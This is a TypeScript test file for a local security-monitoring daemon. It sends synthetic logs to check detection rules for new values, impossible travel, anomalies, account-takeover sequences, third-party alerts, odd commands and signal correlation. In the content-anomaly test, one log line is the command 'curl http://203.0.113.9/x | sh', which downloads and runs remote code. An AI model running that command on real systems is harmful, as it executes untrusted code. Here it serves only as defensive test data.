import { cpSync } from 'node:fs'
import { expect, test } from 'vitest'
import { temporary } from '../child.ts'
import { noon, startDaemon } from '../daemon.ts'

// every detection method through the whole daemon: rules come in over the API, logs too, and the clock of the test goes on
const daemon = await startDaemon()
const { standard, intake, core, clock } = daemon
const base = '/api/v2/security_monitoring/rules'
const minute = 60_000
const hour = 60 * minute
const day = 24 * hour

async function create(rule: Record<string, unknown>): Promise<string> {
  const made = await standard.post(base, { message: 'what happened', isEnabled: true, tags: [], ...rule })
  expect([made.status, made.text]).toEqual([200, expect.stringContaining('"id"')])
  return String(made.at('id'))
}
/** Send a log when it happens. */
async function send(time: number, attributes: Record<string, unknown>): Promise<void> {
  clock.now = time
  expect((await intake.post('/api/v2/logs', [{ timestamp: time, message: 'something', ...attributes }])).status).toBe(202)
}
const foundOf = (id: string) =>
  standard.get(
    `/api/v2/security_monitoring/signals?filter[query]=${encodeURIComponent(`@workflow.rule.id:${id}`)}&filter[from]=2020-01-01T00:00:00Z&filter[to]=2030-01-01T00:00:00Z&page[limit]=100`,
  )
async function signalsOf(id: string): Promise<Record<string, unknown>[]> {
  await core.caughtUp()
  return (await foundOf(id)).each('data', 'attributes.custom') as Record<string, unknown>[]
}
/** Why the signal of a rule with that title is there. */
async function whyOf(id: string, title: string) {
  const found = await foundOf(id)
  const at = found.each('data', 'attributes.custom.title').indexOf(title)
  return standard.get(`/api/local/signals/${String(found.each('data', 'id')[at])}/why`)
}
const usr = (name: string) => ({ usr: { name } })

test('D-01: new value: a country that a user has not logged in from', async () => {
  const id = await create({
    name: 'New country',
    queries: [
      {
        query: 'source:app @evt.name:login',
        aggregation: 'new_value',
        groupByFields: ['@usr.name'],
        metrics: ['@network.client.geoip.country.iso_code'],
      },
    ],
    cases: [{ status: 'medium' }],
    options: {
      detectionMethod: 'new_value',
      evaluationWindow: 0,
      keepAlive: 300,
      maxSignalDuration: 600,
      newValueOptions: { learningDuration: 1, forgetAfter: 28 },
    },
  })
  const login = (time: number, ip: string) =>
    send(time, { ddsource: 'app', evt: { name: 'login' }, ...usr('ann'), network: { client: { ip } } })
  // two of Google's, by the data that came with the installation in the United States; then one of Deutsche Telekom
  await login(noon, '8.8.8.8')
  await login(noon + 2 * day, '8.8.4.4')
  await login(noon + 2 * day + minute, '217.0.43.1')
  const [signal, ...more] = await signalsOf(id)
  expect([more, signal!['evidence']]).toEqual([
    [],
    [expect.objectContaining({ new_values: [{ '@network.client.geoip.country.iso_code': 'DE' }] })],
  ])
})

test('D-01: new value with an instantaneous baseline: what was logged before the rule is known at once', async () => {
  const start = clock.now + day
  const login = (time: number, device: string) => send(time, { ddsource: 'wifi', ...usr('ann'), device })
  for (let i = 0; i < 10; i++) await login(start + i * 12 * hour, i % 2 ? 'phone' : 'laptop')
  const rule = (instantaneousBaseline: boolean) => ({
    name: 'New device',
    queries: [{ query: 'source:wifi', aggregation: 'new_value', groupByFields: ['@usr.name'], metrics: ['@device'] }],
    cases: [{ status: 'medium' }],
    options: {
      detectionMethod: 'new_value',
      evaluationWindow: 0,
      keepAlive: 60,
      maxSignalDuration: 60,
      newValueOptions: { learningDuration: 3, instantaneousBaseline },
    },
  })
  const [informed, plain] = [await create(rule(true)), await create(rule(false))]
  await login(start + 121 * hour, 'phone')
  await login(start + 122 * hour, 'toaster')
  expect([(await signalsOf(informed)).map(({ evidence }) => evidence), await signalsOf(plain)]).toEqual([
    [[expect.objectContaining({ new_values: [{ '@device': 'toaster' }] })]],
    [],
  ])
})

test('stopped before it has learned from the logs before: it does after the start', async () => {
  const dir = temporary()
  const before = await startDaemon({ dir })
  const login = (time: number, device: string) => ({ timestamp: time, message: 'x', ddsource: 'wifi', ...usr('ann'), device })
  await before.intake.post(
    '/api/v2/logs',
    Array.from({ length: 200 }, (_, i) => login(noon - 5 * hour + i * minute, `device ${i}`)),
  )
  await before.core.caughtUp()
  const made = await before.standard.post(base, {
    name: 'New device',
    queries: [{ query: 'source:wifi', aggregation: 'new_value', groupByFields: ['@usr.name'], metrics: ['@device'] }],
    cases: [{ status: 'medium' }],
    options: {
      ...{ detectionMethod: 'new_value', evaluationWindow: 0, keepAlive: 60, maxSignalDuration: 60 },
      newValueOptions: { learningMethod: 'duration', learningDuration: 1, instantaneousBaseline: true },
    },
  })
  expect(made.status).toBe(200)
  await before.stop()

  // SQLite in the same process holds on to what it had open: a copy is as good
  const copy = temporary()
  cpSync(dir, copy, { recursive: true })
  const after = await startDaemon({ dir: copy, now: noon + 20 * hour })
  const time = noon + 20 * hour
  await after.intake.post('/api/v2/logs', [login(time, 'device 7'), login(time + 1, 'toaster')])
  await after.core.caughtUp()
  const found = await after.standard.get('/api/v2/security_monitoring/signals')
  expect(found.each('data', 'attributes.custom.evidence')).toEqual([[expect.objectContaining({ new_values: [{ '@device': 'toaster' }] })]])
  expect([before.reported, after.reported]).toEqual([[], []])
})

test('D-01: impossible travel on what enrichment knows of an address: its country', async () => {
  const id = await create({
    name: 'Impossible travel',
    queries: [{ query: 'source:vpn', aggregation: 'geo_data', groupByFields: ['@usr.name'], metrics: ['@network.client.geoip'] }],
    cases: [{ status: 'high' }],
    options: {
      detectionMethod: 'impossible_travel',
      evaluationWindow: 900,
      keepAlive: 3600,
      maxSignalDuration: 86_400,
      impossibleTravelOptions: { baselineUserLocations: false },
    },
  })
  const visit = (time: number, name: string, ip: string) => send(time, { ddsource: 'vpn', ...usr(name), network: { client: { ip } } })
  const start = clock.now + day
  await visit(start, 'ann', '217.0.43.1')
  await visit(start + minute, 'bob', '8.8.8.8')
  await visit(start + hour, 'ann', '8.8.8.8')
  const seen = [{ from: 'DE', to: 'US', minutes: 60 }]
  expect(await signalsOf(id)).toMatchObject([{ usr: { name: 'ann' }, evidence: seen }])
  const [{ title } = {}] = await signalsOf(id)
  expect((await whyOf(id, String(title))).at('data.attributes.evidence')).toMatchObject(seen)
})

test('D-01: anomaly: a burst after a quiet day', async () => {
  const rule = (detectionMethod: string, condition: string) => ({
    name: detectionMethod,
    queries: [{ query: 'source:shop', groupByFields: ['service'] }],
    cases: [{ status: 'low', condition }],
    options: {
      detectionMethod,
      evaluationWindow: 300,
      keepAlive: 3600,
      maxSignalDuration: 86_400,
      anomalyDetectionOptions: { bucketDuration: 300, learningDuration: 1 },
    },
  })
  const ids = [
    await create(rule('anomaly_detection', 'a > 0.995')),
    await create(rule('anomaly_threshold', 'a > 20')),
    await create(rule('anomaly_threshold', 'a > 60')),
  ]
  const start = Math.ceil(clock.now / day + 1) * day
  for (let i = 0; i < 24; i++) await send(start + i * 5 * minute, { ddsource: 'shop', service: 'cart' })
  clock.now = start + 2 * hour
  await intake.post(
    '/api/v2/logs',
    Array.from({ length: 40 }, (_, i) => ({ timestamp: clock.now + i, message: 'x', ddsource: 'shop', service: 'cart' })),
  )
  const found = await Promise.all(ids.map(signalsOf))
  expect(found.map(all => all.length)).toEqual([1, 1, 0])
})

test('D-01: sequence: guesses, a login, a change of roles', async () => {
  const byUser = { groupByFields: ['@usr.name'] }
  const id = await create({
    name: 'Account taken over',
    queries: [
      { query: 'source:idp @evt.outcome:failure', ...byUser },
      { query: 'source:idp @evt.outcome:success', ...byUser },
      { query: 'source:idp @evt.name:role', ...byUser },
    ],
    cases: [{ status: 'critical', condition: 'raised > 0' }],
    options: {
      detectionMethod: 'sequence_detection',
      evaluationWindow: 0,
      keepAlive: 300,
      maxSignalDuration: 600,
      sequenceDetectionOptions: {
        steps: [
          { name: 'guessed', condition: 'a > 2', evaluationWindow: 60 },
          { name: 'in', condition: 'b > 0', evaluationWindow: 60 },
          { name: 'raised', condition: 'c > 0', evaluationWindow: 60 },
        ],
        stepTransitions: [
          { parent: 'guessed', child: 'in', evaluationWindow: 900 },
          { parent: 'in', child: 'raised', evaluationWindow: 900 },
        ],
      },
    },
  })
  const start = clock.now + day
  for (let i = 0; i < 3; i++) await send(start + i * 1000, { ddsource: 'idp', ...usr('ann'), evt: { outcome: 'failure' } })
  await send(start + minute, { ddsource: 'idp', ...usr('ann'), evt: { outcome: 'success' } })
  expect(await signalsOf(id)).toEqual([])
  await send(start + 2 * minute, { ddsource: 'idp', ...usr('ann'), evt: { name: 'role' } })
  expect(await signalsOf(id)).toMatchObject([{ events_matched: 5, usr: { name: 'ann' } }])
})

const alert = (severity: number, instance: string) => ({ ddsource: 'guardduty', message: 'Recon:EC2/PortProbe', severity, instance })
test('D-01: third party: a posted alert is a signal, one for each new value', async () => {
  const id = await create({
    name: 'GuardDuty',
    queries: [],
    cases: [],
    thirdPartyCases: [{ query: '@severity:>=7', name: 'severe', status: 'high' }],
    options: {
      detectionMethod: 'third_party',
      keepAlive: 0,
      maxSignalDuration: 600,
      thirdPartyRuleOptions: { defaultStatus: 'info', rootQueries: [{ query: 'source:guardduty', groupByFields: ['@instance'] }] },
    },
  })
  await send(clock.now + hour, alert(8, 'i-1'))
  await send(clock.now + minute, alert(2, 'i-2'))
  await send(clock.now + minute, alert(8, 'i-1'))
  const found = await signalsOf(id)
  expect(found.map(({ title, events_matched }) => [title, events_matched]).sort()).toEqual([
    ['GuardDuty - severe', 2],
    ['GuardDuty', 1],
  ])
  const cases = async (title: string) => (await whyOf(id, title)).each('data.attributes.cases', 'held')
  expect([await cases('GuardDuty - severe'), await cases('GuardDuty')]).toEqual([
    [true, false],
    [false, true],
  ])
})

test('D-01: content anomaly: a command unlike those of the days before', async () => {
  const id = await create({
    name: 'Odd command',
    queries: [{ query: 'source:shell', groupByFields: ['host'], metrics: ['@command'] }],
    cases: [{ status: 'low', condition: 'a >= 1' }],
    options: {
      detectionMethod: 'content_anomaly',
      evaluationWindow: 300,
      keepAlive: 3600,
      maxSignalDuration: 86_400,
      contentAnomalyOptions: { learningDuration: 1 },
    },
  })
  const type = (time: number, command: string) => send(time, { ddsource: 'shell', hostname: 'gate', command })
  const start = clock.now + day
  for (let i = 0; i < 30; i++) await type(start + i * hour, `systemctl restart job-${i % 3}`)
  await type(start + 31 * hour, 'curl http://203.0.113.9/x | sh')
  expect(await signalsOf(id)).toMatchObject([{ events_matched: 1, entities: expect.arrayContaining(['host:gate']) }])
})

test('D-05: signal correlation: two rules about one user; the rules it names must be there', async () => {
  const simple = (query: string) => ({
    name: query,
    queries: [{ query, groupByFields: ['@usr.name'] }],
    cases: [{ status: 'low' }],
    options: { evaluationWindow: 0, keepAlive: 60, maxSignalDuration: 60 },
  })
  const rules = [await create(simple('source:hr @evt.name:leaver')), await create(simple('source:hr @evt.name:download'))]
  const correlation = {
    name: 'Leaver downloads',
    type: 'signal_correlation',
    queries: rules.map(ruleId => ({ ruleId, aggregation: 'event_count', correlatedByFields: ['@usr.name'] })),
    cases: [{ status: 'critical', condition: 'a > 0 && b > 0' }],
    options: { evaluationWindow: 900, keepAlive: 3600, maxSignalDuration: 86_400 },
  }
  const id = await create(correlation)
  const got = await standard.get(`${base}/${id}`)
  expect([got.at('type'), got.at('queries.0.ruleId'), got.at('queries.0.correlatedByFields')]).toEqual([
    'signal_correlation',
    rules[0],
    ['@usr.name'],
  ])
  const wrong = await standard.post(base, {
    ...correlation,
    queries: [
      { ruleId: 'nowhere', correlatedByFields: ['host'] },
      { ruleId: id, correlatedByFields: ['host'] },
    ],
    cases: [{ status: 'low' }],
  })
  expect([wrong.status, wrong.each('error.details', 'target')]).toEqual([400, ['queries.0.ruleId', 'queries.1.ruleId']])

  const start = clock.now + day
  await send(start, { ddsource: 'hr', ...usr('eve'), evt: { name: 'leaver' } })
  await send(start + minute, { ddsource: 'hr', ...usr('eve'), evt: { name: 'download' } })
  await send(start + 2 * minute, { ddsource: 'hr', ...usr('ann'), evt: { name: 'download' } })
  const [signal, ...more] = await signalsOf(id)
  expect([more, signal!['events_matched'], signal!['usr']]).toEqual([[], 2, { name: 'eve' }])
  const samples = signal!['samples'] as { id: string }[]
  for (const { id: source } of samples) expect((await standard.get(`/api/v2/security_monitoring/signals/${source}`)).status).toBe(200)
})

test('more signals within an hour than a rule may open: the rest is counted where everybody sees it', async () => {
  const id = await create({
    name: 'Flood',
    queries: [{ query: 'source:flood', groupByFields: ['@n'] }],
    cases: [{ status: 'info' }],
    options: { evaluationWindow: 0, keepAlive: 60, maxSignalDuration: 60 },
  })
  clock.now += day
  for (let i = 0; i < 2; i++)
    await intake.post(
      '/api/v2/logs',
      Array.from({ length: 510 }, (_, n) => ({ timestamp: clock.now, message: 'x', ddsource: 'flood', n: i * 510 + n })),
    )
  await core.caughtUp()
  const status = await standard.get('/api/local/status')
  expect([status.at('data.attributes.suppressed_signals'), status.at('data.attributes.suppressed_by_rule')]).toEqual([20, { [id]: 20 }])
  const told = await standard.get(
    `/api/v2/security_monitoring/signals?filter[query]=${encodeURIComponent('@suppressed_signals:20')}&filter[from]=2020-01-01T00:00:00Z&filter[to]=2030-01-01T00:00:00Z`,
  )
  expect(told.each('data', 'attributes.custom.workflow.rule.name')).toEqual(['Flood'])
})

test('nothing went wrong that the daemon did not expect', () => expect(daemon.reported).toEqual([]))
